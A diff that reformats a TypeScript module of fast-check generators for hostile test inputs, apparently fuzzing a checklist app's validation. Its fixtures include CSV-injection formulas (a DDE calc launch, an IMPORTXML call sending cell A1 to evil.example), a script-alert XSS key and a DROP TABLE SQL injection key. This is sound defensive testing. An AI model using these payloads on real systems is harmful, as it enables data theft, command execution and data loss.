@@ -27,7 +27,14 @@ export const HTML_PAYLOADS = [
 
 /** What a spreadsheet would evaluate if a cell started with it (OWASP "CSV injection"). */
 export const FORMULA_PREFIXES = ['=', '+', '-', '@', '\t', '\r'] as const;
-const FORMULA_BODIES = ['1+1', 'HYPERLINK("http://evil.example","clic")', 'cmd|\' /C calc\'!A0', 'SUM(A1:A9)', '2+5+cmd|\' /C calc\'!A0', 'IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")'];
+const FORMULA_BODIES = [
+  '1+1',
+  'HYPERLINK("http://evil.example","clic")',
+  "cmd|' /C calc'!A0",
+  'SUM(A1:A9)',
+  "2+5+cmd|' /C calc'!A0",
+  'IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
+];
 
 /** Dates as people, spreadsheets and attackers write them: impossible, far out of range, other calendars' digits. */
 export const HOSTILE_DATES = [
@@ -78,13 +85,21 @@ export const UNICODE_TRICKS = [
 ] as const;
 
 /** C0 and C1 controls (tab, LF and CR included: some fields allow them, the others must refuse them). */
-export const controlCharacter = fc.oneof(fc.integer({ min: 0, max: 0x1f }), fc.integer({ min: 0x7f, max: 0x9f })).map((c) => String.fromCharCode(c));
+export const controlCharacter = fc
+  .oneof(fc.integer({ min: 0, max: 0x1f }), fc.integer({ min: 0x7f, max: 0x9f }))
+  .map((c) => String.fromCharCode(c));
 export const withControlCharacters = fc
-  .tuple(fc.string({ maxLength: 10 }), fc.array(controlCharacter, { minLength: 1, maxLength: 4 }), fc.string({ maxLength: 10 }))
+  .tuple(
+    fc.string({ maxLength: 10 }),
+    fc.array(controlCharacter, { minLength: 1, maxLength: 4 }),
+    fc.string({ maxLength: 10 }),
+  )
   .map(([a, cs, b]) => a + cs.join('') + b);
 
 export const htmlPayload = fc.constantFrom(...HTML_PAYLOADS);
-export const formulaString = fc.tuple(fc.constantFrom(...FORMULA_PREFIXES), fc.constantFrom(...FORMULA_BODIES)).map(([p, b]) => p + b);
+export const formulaString = fc
+  .tuple(fc.constantFrom(...FORMULA_PREFIXES), fc.constantFrom(...FORMULA_BODIES))
+  .map(([p, b]) => p + b);
 export const hostileDate = fc.constantFrom(...HOSTILE_DATES);
 export const unicodeTrick = fc.constantFrom(...UNICODE_TRICKS);
 export const loneSurrogate = fc.integer({ min: 0xd800, max: 0xdfff }).map((c) => `x${String.fromCharCode(c)}y`);
@@ -105,7 +120,24 @@ export function hostileString({ huge = true }: { huge?: boolean } = {}) {
     hostileDate,
     unicodeTrick,
     loneSurrogate,
-    fc.constantFrom('', ' ', '   ', '\n', 'null', 'undefined', 'NaN', 'true', '0', '-1', '1e309', '__proto__', 'constructor', 'yes', 'no', 'unknown'),
+    fc.constantFrom(
+      '',
+      ' ',
+      '   ',
+      '\n',
+      'null',
+      'undefined',
+      'NaN',
+      'true',
+      '0',
+      '-1',
+      '1e309',
+      '__proto__',
+      'constructor',
+      'yes',
+      'no',
+      'unknown',
+    ),
     fc.string({ unit: 'binary', maxLength: 40 }),
     ...(huge ? [hugeString()] : []),
   );
@@ -132,7 +164,11 @@ export const HOSTILE_NUMBERS = [
   Number.MIN_VALUE,
 ] as const;
 /** Hostile numbers that survive JSON (NaN and the infinities become null there). */
-export const hostileNumber = fc.oneof(fc.constantFrom(...HOSTILE_NUMBERS), fc.double({ noNaN: true, noDefaultInfinity: true }), fc.integer());
+export const hostileNumber = fc.oneof(
+  fc.constantFrom(...HOSTILE_NUMBERS),
+  fc.double({ noNaN: true, noDefaultInfinity: true }),
+  fc.integer(),
+);
 /** Also NaN and the infinities: only for values that are not sent as JSON. */
 export const hostileNumberNotJson = fc.oneof(hostileNumber, fc.constantFrom(Number.NaN, Infinity, -Infinity));
 
@@ -142,7 +178,9 @@ export function nested(depth: number, kind: 'array' | 'object', leaf: unknown = 
   for (let i = 0; i < depth; i++) value = kind === 'array' ? [value] : { a: value };
   return value;
 }
-export const deepValue = fc.tuple(fc.integer({ min: 1000, max: 3000 }), fc.constantFrom('array' as const, 'object' as const), htmlPayload).map(([d, k, leaf]) => nested(d, k, leaf));
+export const deepValue = fc
+  .tuple(fc.integer({ min: 1000, max: 3000 }), fc.constantFrom('array' as const, 'object' as const), htmlPayload)
+  .map(([d, k, leaf]) => nested(d, k, leaf));
 
 /** Values of the wrong type where a string (or a number, or an enum) is expected. */
 export const wrongType = fc.oneof(
@@ -193,15 +231,26 @@ export const HOSTILE_KEYS = [
   '<script>alert(1)</script>',
   "'; DROP TABLE checklists; --",
 ] as const;
-export const hostileKey = fc.oneof(fc.constantFrom(...HOSTILE_KEYS), fc.string({ maxLength: 20 }), fc.string({ unit: 'binary', maxLength: 10 }));
+export const hostileKey = fc.oneof(
+  fc.constantFrom(...HOSTILE_KEYS),
+  fc.string({ maxLength: 20 }),
+  fc.string({ unit: 'binary', maxLength: 10 }),
+);
 
 /**
  * An object with some of `fields` (and a few hostile keys) holding hostile or plausible values.
  * Built with JSON.parse so that a `__proto__` key is an own property, as in a parsed request body.
  */
-export function hostileObject(fields: readonly string[], plausible: fc.Arbitrary<unknown> = fc.constant('x'), options: { huge?: boolean; deep?: boolean } = {}) {
+export function hostileObject(
+  fields: readonly string[],
+  plausible: fc.Arbitrary<unknown> = fc.constant('x'),
+  options: { huge?: boolean; deep?: boolean } = {},
+) {
   const value = fc.oneof({ weight: 3, arbitrary: hostileValue(options) }, { weight: 2, arbitrary: plausible });
-  const fieldEntries = fields.length > 0 ? fc.array(fc.tuple(fc.constantFrom(...fields), value), { maxLength: fields.length + 2 }) : fc.constant([] as [string, unknown][]);
+  const fieldEntries =
+    fields.length > 0
+      ? fc.array(fc.tuple(fc.constantFrom(...fields), value), { maxLength: fields.length + 2 })
+      : fc.constant([] as [string, unknown][]);
   return fc
     .tuple(fieldEntries, fc.array(fc.tuple(hostileKey, value), { maxLength: 2 }))
     .map(([known, extra]) => ownObject([...known, ...extra]));
@@ -210,7 +259,8 @@ export function hostileObject(fields: readonly string[], plausible: fc.Arbitrary
 /** An object whose keys are all own properties — `__proto__` included, as JSON.parse makes it. */
 export function ownObject(entries: readonly (readonly [string, unknown])[]): Record<string, unknown> {
   const out: Record<string, unknown> = {};
-  for (const [k, v] of entries) Object.defineProperty(out, k, { value: v, enumerable: true, writable: true, configurable: true });
+  for (const [k, v] of entries)
+    Object.defineProperty(out, k, { value: v, enumerable: true, writable: true, configurable: true });
   return out;
 }
 
@@ -219,4 +269,5 @@ export function ownObject(entries: readonly (readonly [string, unknown])[]): Rec
  * change what a reader sees (bidi controls, zero-width characters, line/paragraph separators):
  * what no stored free text may contain.
  */
-export const FORBIDDEN_CONTROL = /[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F-\u009F\u061C\u200B-\u200F\u2028-\u202E\u2060-\u2064\u2066-\u206F\uFEFF]|\p{Surrogate}/u;
+export const FORBIDDEN_CONTROL =
+  /[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F-\u009F\u061C\u200B-\u200F\u2028-\u202E\u2060-\u2064\u2066-\u206F\uFEFF]|\p{Surrogate}/u;
